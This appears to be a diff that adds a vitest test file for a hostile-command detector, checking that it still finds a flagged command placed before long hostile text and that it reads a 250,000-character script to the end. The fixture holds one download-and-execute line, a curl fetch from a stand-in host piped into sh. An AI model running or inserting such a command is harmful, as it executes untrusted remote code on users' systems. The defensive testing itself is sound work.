@@ -1,0 +1,31 @@
+/** Hostile families and a long script in twice the length of those in test/hostile. */
+import { describe, expect, it } from "vitest";
+import { families } from "../../bench/hostile.js";
+import { longScript } from "../../bench/long-script.js";
+import { assertSound } from "../hostile/invariants.js";
+import { sharedDetector } from "../support/marked.js";
+
+const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
+const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;
+
+describe.each(Object.entries(families))("%s of 20,000 characters", (_, family) => {
+  it("do not hide a command before them", async () => {
+    const text = BEFORE + family(20_000);
+    const detection = (await sharedDetector()).detect(text);
+    assertSound(text, detection);
+    expect(detection.findings[0]?.text).toBe(FLAGGED);
+  });
+
+  it("have a sound result when alone", async () => {
+    const text = family(20_000);
+    assertSound(text, (await sharedDetector()).detect(text));
+  });
+});
+
+it("a script of 250,000 characters is read completely", async () => {
+  const text = longScript(250_000);
+  const detection = (await sharedDetector()).detect(text);
+  assertSound(text, detection);
+  expect(detection.outcome).toEqual({ status: "complete" });
+  expect(detection.spans).toEqual([]);
+});
